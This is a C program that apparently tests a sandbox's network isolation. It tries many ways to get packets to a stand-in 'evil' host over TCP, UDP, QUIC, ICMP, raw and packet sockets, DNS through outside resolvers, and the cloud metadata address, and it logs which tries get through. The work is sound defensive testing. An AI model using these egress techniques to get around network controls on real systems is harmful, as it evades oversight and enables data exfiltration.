/*
 * Tries to get packets out by every way there is: try-to-leak LOG TRIES WORKERS RESOLVER NEIGHBOUR ALLOWED_NAME
 * Each try has a number of its own, which is its source port, its sequence number or the first two bytes of its packet, so
 * that whoever looks at the wire knows which try got through. The log has one line for each way and worker, with the
 * numbers' first, their step and their count. The names asked for are below leaked.test.
 */
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/ioctl.h>

#include "dns-client.h"
#include "ground-truth.h"

#define EVIL4 "203.0.113.66"
#define EVIL6 "2001:db8:bad::66"
#define MAPPED "::ffff:203.0.113.66"
#define OTHER_RESOLVER4 "1.1.1.1"
#define OTHER_RESOLVER6 "2606:4700:4700::1111"

enum { FIRST_NUMBER = 20000, MAX_TRIES = 40000, UNASSIGNED_PROTOCOL = 99, QUIC_BYTES = 1200 };

enum kind { TCP, TCP_FAST_OPEN, UDP_CONNECT, UDP_SENDTO, UDP_SENDMSG, UDP_SENDMMSG, QUIC, ECHO, RAW, RAW_WITH_HEADER, DNS_UDP, DNS_TCP, FRAME };

struct way {
  const char *name;
  enum kind kind;
  const char *ip;
  const char *port;
};

static struct way ways[] = {
    {"tcp-v4", TCP, EVIL4, "443"},
    {"tcp-v6", TCP, EVIL6, "443"},
    {"tcp-mapped", TCP, MAPPED, "443"},
    {"tcp-fast-open", TCP_FAST_OPEN, EVIL4, "443"},
    {"udp-connect-v4", UDP_CONNECT, EVIL4, "4444"},
    {"udp-connect-v6", UDP_CONNECT, EVIL6, "4444"},
    {"udp-connect-mapped", UDP_CONNECT, MAPPED, "4444"},
    {"udp-sendto-v4", UDP_SENDTO, EVIL4, "4444"},
    {"udp-sendto-v6", UDP_SENDTO, EVIL6, "4444"},
    {"udp-sendto-mapped", UDP_SENDTO, MAPPED, "4444"},
    {"udp-sendmsg-v4", UDP_SENDMSG, EVIL4, "4444"},
    {"udp-sendmsg-v6", UDP_SENDMSG, EVIL6, "4444"},
    {"udp-sendmmsg-v4", UDP_SENDMMSG, EVIL4, "4444"},
    {"udp-sendmmsg-v6", UDP_SENDMMSG, EVIL6, "4444"},
    {"udp-multicast", UDP_SENDTO, "224.0.0.251", "5353"},
    {"quic-v4", QUIC, EVIL4, "443"},
    {"quic-v6", QUIC, EVIL6, "443"},
    {"icmp-v4", ECHO, EVIL4, "0"},
    {"icmp-v6", ECHO, EVIL6, "0"},
    {"raw-v4", RAW, EVIL4, "0"},
    {"raw-v6", RAW, EVIL6, "0"},
    {"raw-own-header", RAW_WITH_HEADER, EVIL4, "4444"},
    {"dns-other-resolver-v4", DNS_UDP, OTHER_RESOLVER4, "53"},
    {"dns-other-resolver-v6", DNS_UDP, OTHER_RESOLVER6, "53"},
    {"dns-other-resolver-tcp", DNS_TCP, OTHER_RESOLVER4, "53"},
    {"dns-configured-resolver", DNS_UDP, NULL, "53"},
    {"dns-over-tls-v4", TCP, OTHER_RESOLVER4, "853"},
    {"dns-over-tls-v6", TCP, OTHER_RESOLVER6, "853"},
    {"allowed-host-other-port", TCP, NULL, "22"},
    {"allowed-host-udp", UDP_SENDTO, NULL, "443"},
    {"metadata", TCP, "169.254.169.254", "80"},
    {"metadata-v6", TCP, "fd00:ec2::254", "80"},
    {"neighbour", TCP, NULL, "80"},
    {"neighbour-udp", UDP_SENDTO, NULL, "7"},
    {"packet-socket", FRAME, EVIL4, "4444"},
};

enum { WAYS = sizeof ways / sizeof *ways };

static unsigned short checksum(const void *bytes, size_t length) {
  const unsigned char *at = bytes;
  unsigned sum = 0;
  for (size_t i = 0; i + 1 < length; i += 2) sum += (unsigned)at[i] << 8 | at[i + 1];
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons((unsigned short)~sum);
}

static int open_from(int type, int family, int number) {
  struct address any = address_from(family == AF_INET ? "0.0.0.0" : "::", "0");
  ((struct sockaddr_in *)&any.storage)->sin_port = htons(number);
  int socket_fd = socket(family, type | SOCK_CLOEXEC, 0), one = 1;
  setsockopt(socket_fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  if (bind(socket_fd, (struct sockaddr *)&any.storage, any.length) < 0) perror("bind");
  return socket_fd;
}

static void cut(int socket_fd) {
  struct linger at_once = {.l_onoff = 1};
  setsockopt(socket_fd, SOL_SOCKET, SO_LINGER, &at_once, sizeof at_once);
  close(socket_fd);
}

static void try_tcp(const struct way *way, const struct address *to, int number) {
  int socket_fd = open_from(SOCK_STREAM | SOCK_NONBLOCK, to->family, number);
  struct sockaddr *address = (struct sockaddr *)&to->storage;
  if (way->kind == TCP_FAST_OPEN) sendto(socket_fd, "leak", 4, MSG_FASTOPEN, address, to->length);
  else connect(socket_fd, address, to->length);
  cut(socket_fd);
}

static void try_udp(const struct way *way, const struct address *to, int number) {
  int socket_fd = open_from(SOCK_DGRAM, to->family, number);
  struct sockaddr *address = (struct sockaddr *)&to->storage;
  char text[QUIC_BYTES] = "leak";
  struct iovec part = {.iov_base = text, .iov_len = 32};
  struct mmsghdr message = {.msg_hdr = {.msg_name = address, .msg_namelen = to->length, .msg_iov = &part, .msg_iovlen = 1}};
  /* The first bytes of a QUIC Initial (RFC 9000, section 17.2.2). */
  if (way->kind == QUIC) memcpy(text, "\xc3\0\0\0\1\x08leakleak", 14), part.iov_len = QUIC_BYTES;
  if (way->kind == UDP_CONNECT) {
    if (connect(socket_fd, address, to->length) == 0) send(socket_fd, text, 32, 0);
  } else if (way->kind == UDP_SENDTO || way->kind == QUIC) {
    sendto(socket_fd, text, part.iov_len, 0, address, to->length);
  } else if (way->kind == UDP_SENDMSG) {
    sendmsg(socket_fd, &message.msg_hdr, 0);
  } else {
    sendmmsg(socket_fd, &message, 1, 0);
  }
  close(socket_fd);
}

static void try_echo(const struct address *to, int number) {
  int is_v4 = to->family == AF_INET;
  unsigned char request[16] = {is_v4 ? 8 : 128, 0, 0, 0, 0, 1, (unsigned char)(number >> 8), (unsigned char)number};
  unsigned short sum = checksum(request, sizeof request);
  if (is_v4) memcpy(request + 2, &sum, 2);
  int socket_fd = socket(to->family, SOCK_RAW | SOCK_CLOEXEC, is_v4 ? IPPROTO_ICMP : IPPROTO_ICMPV6);
  sendto(socket_fd, request, sizeof request, 0, (struct sockaddr *)&to->storage, to->length);
  close(socket_fd);
}

/* An IPv4 header, a UDP header and a word. Returns the length. */
static size_t to_datagram(unsigned char *out, const struct address *to, const struct in_addr *from, int number) {
  const struct sockaddr_in *v4 = (const struct sockaddr_in *)&to->storage;
  struct iphdr head = {.version = 4, .ihl = 5, .tot_len = htons(32), .ttl = 64, .protocol = IPPROTO_UDP, .saddr = from->s_addr, .daddr = v4->sin_addr.s_addr};
  head.check = checksum(&head, sizeof head);
  unsigned short udp[] = {htons(number), v4->sin_port, htons(12), 0};
  memcpy(out, &head, sizeof head);
  memcpy(out + 20, udp, sizeof udp);
  memcpy(out + 28, "leak", 4);
  return 32;
}

static struct in_addr own_address;
static int own_device;
static unsigned char gateway_hardware[6];

static void try_raw(const struct way *way, const struct address *to, int number) {
  unsigned char packet[64] = {(unsigned char)(number >> 8), (unsigned char)number};
  size_t length = 16;
  int protocol = way->kind == RAW ? UNASSIGNED_PROTOCOL : IPPROTO_RAW;
  if (way->kind == RAW_WITH_HEADER) length = to_datagram(packet, to, &own_address, number);
  int socket_fd = socket(to->family, SOCK_RAW | SOCK_CLOEXEC, protocol);
  struct address plain = *to;
  /* Of a raw socket for IPv6 the port has to be none (ipv6(7)). */
  ((struct sockaddr_in *)&plain.storage)->sin_port = 0;
  sendto(socket_fd, packet, length, 0, (struct sockaddr *)&plain.storage, plain.length);
  close(socket_fd);
}

static void try_frame(const struct address *to, int number) {
  unsigned char packet[64];
  size_t length = to_datagram(packet, to, &own_address, number);
  struct sockaddr_ll link = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = own_device, .sll_halen = 6};
  memcpy(link.sll_addr, gateway_hardware, 6);
  int socket_fd = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  sendto(socket_fd, packet, length, 0, (struct sockaddr *)&link, sizeof link);
  close(socket_fd);
}

/* Whoever makes a packet socket may be ended for it. */
static void try_in_child(const struct address *to, int number) {
  pid_t child = fork();
  if (child == 0) try_frame(to, number), _exit(0);
  waitpid(child, NULL, 0);
}

static void try_dns(const struct way *way, const struct address *to, int number) {
  unsigned char message[DNS_MAX_BYTES], answer[DNS_MAX_BYTES];
  char name[64];
  snprintf(name, sizeof name, "t%d.leaked.test", number);
  size_t length = dns_question(message + 2, number, name, TYPE_A);
  message[0] = (unsigned char)(length >> 8), message[1] = (unsigned char)length;
  int is_tcp = way->kind == DNS_TCP;
  int socket_fd = open_from(is_tcp ? SOCK_STREAM : SOCK_DGRAM, to->family, number);
  struct timeval patience = {.tv_usec = 200000};
  setsockopt(socket_fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
  setsockopt(socket_fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
  if (connect(socket_fd, (struct sockaddr *)&to->storage, to->length) == 0) {
    long sent = send(socket_fd, message + (is_tcp ? 0 : 2), length + (is_tcp ? 2 : 0), MSG_NOSIGNAL);
    if (sent > 0 && is_tcp) recv(socket_fd, answer, sizeof answer, 0);
  }
  if (is_tcp) cut(socket_fd);
  else close(socket_fd);
}

static void try_way(const struct way *way, int number) {
  struct address to = address_from(way->ip, way->port);
  switch (way->kind) {
    case TCP: case TCP_FAST_OPEN: return try_tcp(way, &to, number);
    case ECHO: return try_echo(&to, number);
    case RAW: case RAW_WITH_HEADER: return try_raw(way, &to, number);
    case DNS_UDP: case DNS_TCP: return try_dns(way, &to, number);
    case FRAME: return try_in_child(&to, number);
    default: return try_udp(way, &to, number);
  }
}

/* What frames need: the device, its address, and the gateway's, which the kernel knows. */
static void look_around(const char *neighbour) {
  struct address to = address_from(neighbour, "9");
  struct sockaddr_in own;
  socklen_t length = sizeof own;
  int socket_fd = socket(AF_INET, SOCK_DGRAM, 0);
  connect(socket_fd, (struct sockaddr *)&to.storage, to.length);
  getsockname(socket_fd, (struct sockaddr *)&own, &length);
  close(socket_fd);
  own_address = own.sin_addr;
  own_device = (int)if_nametoindex("eth0");
  FILE *table = fopen("/proc/net/arp", "r");
  char line[256];
  unsigned bytes[6];
  while (table && fgets(line, sizeof line, table)) {
    if (sscanf(line, "%*s %*s %*s %x:%x:%x:%x:%x:%x", bytes, bytes + 1, bytes + 2, bytes + 3, bytes + 4, bytes + 5) != 6) continue;
    for (int i = 0; i < 6; i++) gateway_hardware[i] = (unsigned char)bytes[i];
  }
  if (table) fclose(table);
}

/* An allowed host's address is open on its port from now on. */
static char *address_of(const char *resolver, const char *name) {
  static char text[INET_ADDRSTRLEN];
  unsigned char answer[DNS_MAX_BYTES];
  long length = dns_ask(dns_connect(resolver), name, TYPE_A, answer);
  if (length < 0) fprintf(stderr, "%s has no address\n", name), exit(1);
  inet_ntop(AF_INET, dns_last_address(answer, length, TYPE_A), text, sizeof text);
  return text;
}

static void log_tries(int log, int worker, int workers, int tries) {
  for (int way = 0; way < WAYS; way++) {
    int made = 0;
    for (int i = worker; i < tries; i += workers) made += i / workers % WAYS == way;
    struct record record;
    record_begin(&record, "try-to-leak");
    record_text(&record, "way", ways[way].name);
    record_number(&record, "first", FIRST_NUMBER + worker + way * workers);
    record_number(&record, "step", workers * WAYS);
    record_number(&record, "count", made);
    record_write(&record, log);
  }
}

int main(int argc, char **argv) {
  if (argc < 7) return usage("try-to-leak LOG TRIES WORKERS RESOLVER NEIGHBOUR ALLOWED_NAME");
  int log = open_log(argv[1]), tries = atoi(argv[2]), workers = atoi(argv[3]);
  if (tries > MAX_TRIES) tries = MAX_TRIES;
  int worker = fork_workers(workers);
  if (worker < 0) return 0;
  look_around(argv[5]);
  const char *allowed = NULL;
  for (int i = worker; i < tries; i += workers) {
    struct way way = ways[i / workers % WAYS];
    if (!strncmp(way.name, "neighbour", 9)) way.ip = argv[5];
    if (!strcmp(way.name, "dns-configured-resolver")) way.ip = argv[4];
    if (!strncmp(way.name, "allowed", 7)) way.ip = allowed ? allowed : (allowed = address_of(argv[4], argv[6]));
    try_way(&way, FIRST_NUMBER + i);
  }
  log_tries(log, worker, workers, tries);
  return 0;
}
